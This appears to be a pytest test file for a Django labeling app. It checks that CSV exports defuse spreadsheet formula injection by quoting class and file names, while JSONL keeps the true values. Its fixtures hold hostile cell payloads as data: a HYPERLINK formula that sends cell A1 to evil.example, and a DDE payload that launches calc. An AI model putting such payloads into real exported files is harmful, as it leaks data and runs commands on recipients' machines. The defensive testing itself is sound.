"""CSV formula injection: class names and file names that a spreadsheet would run as formulas are written as text
in every CSV the product writes (dataset labels.csv, batch-inference predictions); JSONL and the manifest keep
the true values."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from labeling.models import Job, JobKind, JobStatus, Role
from labeling.services.annotations import annotation_create
from labeling.services.exports.csv_safe import csv_cell
from tests.exports.models import make_model_version
from tests.factories import png_bytes

pytestmark = pytest.mark.django_db

HOSTILE_CLASSES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd", "-2+3"]
HOSTILE_FILES = ["+cmd.png", "=1+2.png", "@me.png", "-x.png", "\tTab.png", "\rcr.png"]
SAFE_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_project(project_factory, item_factory, label_class_factory, member_of):
    """Classes named like formulas, plus an honest one; items whose original names are formulas."""
    project = project_factory(slug="hostile", name="Hostile")
    classes = [
        label_class_factory(project=project, name=name, order=i) for i, name in enumerate([*HOSTILE_CLASSES, "heron"])
    ]
    annotator = member_of(project, Role.ANNOTATOR, "ann")
    names = [*HOSTILE_FILES, "plain.png"]
    for i, name in enumerate(names):
        item = item_factory(project=project, original_name=name)
        annotation_create(item=item, user=annotator, class_ids=[classes[i % len(classes)].pk])
    return project, classes


def download(client, project, job: Job) -> bytes:
    answer = client.get(reverse("labeling:export_download", args=[project.slug, job.pk]))
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def export_through_the_page(client, project, fmt: str, capture) -> zipfile.ZipFile:
    with capture(execute=True):
        answer = client.post(reverse("labeling:exports", args=[project.slug]), {"format": fmt, "val_fraction": "0"})
    assert answer.status_code == 302
    job = Job.objects.filter(kind=JobKind.EXPORT_DATASET, params__format=fmt).get()
    assert job.status == JobStatus.SUCCEEDED, job.message
    return zipfile.ZipFile(io.BytesIO(download(client, project, job)))


def assert_no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(SAFE_PREFIXES), (cell, row)


def test_the_dataset_csv_writes_formula_like_labels_and_file_names_as_text_and_jsonl_keeps_them(
    hostile_project, member_of, django_capture_on_commit_callbacks
):
    # Given a project whose class names and file names are formulas, exported as CSV and as JSONL from the page
    project, classes = hostile_project
    client = Client()
    client.force_login(member_of(project, Role.MANAGER))
    with export_through_the_page(client, project, "csv", django_capture_on_commit_callbacks) as zf:
        text = zf.read("labels.csv").decode()
        manifest = json.loads(zf.read("manifest.json"))
    with export_through_the_page(client, project, "jsonl", django_capture_on_commit_callbacks) as zf:
        records = [json.loads(line) for line in zf.read("labels.jsonl").decode().splitlines()]

    # Then no cell of labels.csv starts like a formula; each hostile one is the true value behind a single quote
    rows = list(csv.reader(io.StringIO(text)))
    assert_no_formula_cells(rows)
    table = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert len(table) == len(HOSTILE_FILES) + 1
    assert {r["label"] for r in table} == {"'" + n for n in HOSTILE_CLASSES} | {"heron"}
    assert {r["original_name"] for r in table} == {"'" + n for n in HOSTILE_FILES} | {"plain.png"}
    assert {r["item_id"] for r in table} == {str(r["item_id"]) for r in records}  # numbers stay numbers

    # And the JSONL and the manifest keep the names exactly as entered
    assert {r["label"] for r in records} == {*HOSTILE_CLASSES, "heron"}
    assert {r["original_name"] for r in records} == {*HOSTILE_FILES, "plain.png"}
    assert {c["name"] for c in manifest["classes"]} == {c.name for c in classes}


def test_a_multi_label_csv_whose_first_label_is_a_formula_is_written_as_text(
    project_factory, item_factory, label_class_factory, member_of, django_capture_on_commit_callbacks
):
    project = project_factory(slug="multi", task_type="multi")
    formula = label_class_factory(project=project, name="=1+1", order=0)
    other = label_class_factory(project=project, name="zebra", order=1)
    annotation_create(item=item_factory(project=project), user=member_of(project), class_ids=[formula.pk, other.pk])
    client = Client()
    client.force_login(member_of(project, Role.MANAGER, "boss"))

    with export_through_the_page(client, project, "csv", django_capture_on_commit_callbacks) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("labels.csv").decode())))

    assert [r["labels"] for r in rows] == ["'=1+1|zebra"]


def test_the_batch_inference_csv_writes_formula_like_file_and_class_names_as_text(
    hostile_project, member_of, django_capture_on_commit_callbacks
):
    # Given a model whose classes are named like formulas, and a zip of images named like formulas
    project, classes = hostile_project
    items = list(project.items.all()[:3])
    make_model_version(project=project, classes=classes, items=items)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        for seed, name in enumerate(HOSTILE_FILES):
            zf.writestr(name, png_bytes(seed))
    archive.seek(0)
    archive.name = "batch.zip"
    client = APIClient()
    client.force_authenticate(member_of(project, Role.ML_ENGINEER, "eng"))

    # When batch inference runs over it through the API
    with django_capture_on_commit_callbacks(execute=True):
        answer = client.post(f"/api/projects/{project.slug}/inference/", {"file": archive}, format="multipart")
    assert answer.status_code == 202, answer.content
    job = Job.objects.get(pk=answer.json()["id"])
    assert job.status == JobStatus.SUCCEEDED, job.message
    body = b"".join(client.get(f"/api/projects/{project.slug}/jobs/{job.pk}/download/").streaming_content)

    # Then no cell of the predictions CSV starts like a formula, and each name is the true one behind a quote
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert_no_formula_cells(rows)
    assert rows[0][:3] == ["file_name", "predicted_class", "confidence"]
    assert sorted(r[0] for r in rows[1:]) == sorted("'" + n for n in HOSTILE_FILES)
    assert {r[1] for r in rows[1:]} <= {csv_cell(c.name) for c in classes}
    for row in rows[1:]:
        assert abs(sum(float(p) for p in row[3:]) - 1) < 1e-4  # probabilities stay numbers


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=A1", "'=A1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (-1, -1),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_csv_cell_quotes_only_text_a_spreadsheet_would_run(value, written):
    assert csv_cell(value) == written
